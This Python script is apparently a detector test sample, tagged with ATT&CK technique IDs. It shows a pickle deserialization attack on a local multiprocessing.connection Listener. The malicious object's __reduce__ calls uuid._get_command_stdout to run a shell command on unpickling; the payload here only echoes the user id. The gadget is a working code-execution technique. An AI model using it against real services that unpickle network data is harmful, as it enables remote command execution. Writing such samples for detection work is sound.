# technique: T1059.006 T1203 T1059.004
"""Pickle delivered over the network to a multiprocessing.connection Listener; the gadget is uuid._get_command_stdout (T1059.006, T1203, T1059.004).

A service accepts work items on 127.0.0.1 with multiprocessing.connection
(Listener + conn.recv(), which unpickles whatever the peer sends after
the authkey handshake). The attacker, holding the key, sends a pickle
whose callable is uuid._get_command_stdout: a private helper of the uuid
module that looks a program up in PATH and runs it with arguments, here
sh -c. No pickle.loads appears in the service's code; find_class names
only "uuid".

A good detector raises a high alert: data received from a socket is
unpickled into a call that starts a process (a shell).
"""
import threading
import uuid
from multiprocessing.connection import Client, Listener

KEY = b"shared-worker-key"


class Job:
    def __reduce__(self):
        return (uuid._get_command_stdout, ("sh", "-c", "echo uuid gadget ran as $(id -u)"))


service = Listener(("127.0.0.1", 0), authkey=KEY)
results = []


def serve():
    with service.accept() as conn:
        item = conn.recv()  # the unpickling happens here
        results.append(item.getvalue() if hasattr(item, "getvalue") else item)


thread = threading.Thread(target=serve, daemon=True)
thread.start()
with Client(service.address, authkey=KEY) as attacker:
    attacker.send(Job())
thread.join(5)
service.close()
print("service unpickled:", results)
